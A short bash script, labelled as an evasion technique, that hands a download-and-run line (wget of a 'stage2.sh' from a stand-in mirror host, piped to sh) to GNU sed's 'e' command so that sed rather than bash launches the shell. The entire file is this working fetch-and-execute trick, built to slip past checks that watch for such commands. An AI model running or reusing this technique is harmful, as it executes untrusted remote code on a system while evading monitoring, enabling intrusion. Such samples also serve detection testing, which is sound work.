#!/usr/bin/env bash
# Evasion: download and run through GNU sed's `e` command, which executes the
# pattern space as a shell command and replaces it with the output. The line
# handed to sed is a plain data string; sed, not bash, starts the shell.
set -eu
mirror="https://mirror.example.org/bootstrap"
line="wget -qO- ${mirror}/stage2.sh | sh"
printf '%s\n' "$line" | sed 'e'
